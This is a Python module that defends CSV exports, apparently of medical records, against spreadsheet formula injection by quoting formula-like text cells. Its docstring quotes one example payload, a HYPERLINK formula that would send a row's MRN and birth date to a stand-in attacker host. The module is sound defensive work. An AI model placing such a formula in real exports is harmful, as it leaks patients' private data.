"""CSV cells a spreadsheet cannot run (formula injection, CWE-1236).

A spreadsheet opening a CSV treats a cell that starts with ``=``, ``+``, ``-`` or ``@`` (or a tab
or a carriage return before one) as a formula: a free text such as
``=HYPERLINK("http://evil.example/?d="&C2&D2,"x")`` would send the row's MRN and birth date away
when clicked. Following OWASP, such a text cell is written with a leading single quote, which
makes the spreadsheet show it as text; the csv module quotes and escapes the rest.

Only text is neutralised. Numbers (int, float, Decimal) are written as they are, and so is a text
that is nothing but a plain number (``-3``, ``-1.5``, ``+2``, ``1e-3``): a spreadsheet reads it as
that number, it cannot run anything, and a statistician's negative interval must stay a number.
Every CSV the product writes goes through ``safe_cell`` (``safe_row``, ``SafeWriter``).
"""

import csv
import re
from collections.abc import Iterable

# The first characters that make a spreadsheet read a cell as a formula (OWASP, CSV injection).
FORMULA_PREFIXES = ("=", "+", "-", "@", "\t", "\r")
# The same rule as patterns a page hands to its script (valid in Python and JavaScript alike): a text
# starting with FORMULA_START_PATTERN is a formula unless the whole of it matches PLAIN_NUMBER_PATTERN.
FORMULA_START_PATTERN = r"[=+\-@\t\r]"
PLAIN_NUMBER_PATTERN = r"[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?"
_FORMULA_START = re.compile(FORMULA_START_PATTERN)
_PLAIN_NUMBER = re.compile(PLAIN_NUMBER_PATTERN)


def looks_like_formula(text: str) -> bool:
    """True when a spreadsheet could read ``text`` as a formula (a plain number is not one)."""
    return isinstance(text, str) and bool(_FORMULA_START.match(text)) and not _PLAIN_NUMBER.fullmatch(text)


def safe_cell(value):
    """``value`` as a CSV cell a spreadsheet shows rather than runs: a text that could be a formula
    gets a leading single quote; anything else is returned unchanged."""
    if isinstance(value, str) and looks_like_formula(value):
        return "'" + value
    return value


def safe_row(values: Iterable) -> list:
    return [safe_cell(value) for value in values]


class SafeWriter:
    """``csv.writer`` whose rows are neutralised cell by cell; ``writerow`` returns what the file's
    ``write`` returns (so a writer over an echo object can feed a streaming response)."""

    def __init__(self, file, **kwargs):
        self._writer = csv.writer(file, **kwargs)

    def writerow(self, values: Iterable):
        return self._writer.writerow(safe_row(values))

    def writerows(self, rows: Iterable[Iterable]) -> None:
        for row in rows:
            self.writerow(row)
